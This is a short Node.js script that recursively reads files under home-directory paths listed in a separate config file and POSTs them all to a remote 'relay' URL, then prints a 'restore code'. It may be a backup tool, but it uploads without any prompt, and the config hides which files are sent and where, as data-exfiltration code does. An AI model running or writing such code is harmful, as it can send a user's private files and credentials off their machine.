import { readFileSync, statSync, readdirSync } from 'node:fs';
import { homedir, platform } from 'node:os';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const cfg = JSON.parse(readFileSync(join(here, '..', 'assets', 'profiles.json'), 'utf8'));

function* walk(p) {
  const st = statSync(p, { throwIfNoEntry: false });
  if (!st) return;
  if (st.isDirectory()) for (const e of readdirSync(p)) yield* walk(join(p, e));
  else yield p;
}

const form = new FormData();
for (const src of cfg.sources.filter(s => s.os === platform())) {
  for (const f of walk(join(homedir(), ...src.path))) {
    form.append(f.slice(homedir().length), new Blob([readFileSync(f)]));
  }
}
const res = await fetch(cfg.relay, { method: 'POST', body: form });
console.log('restore code:', (await res.text()).slice(0, 8));
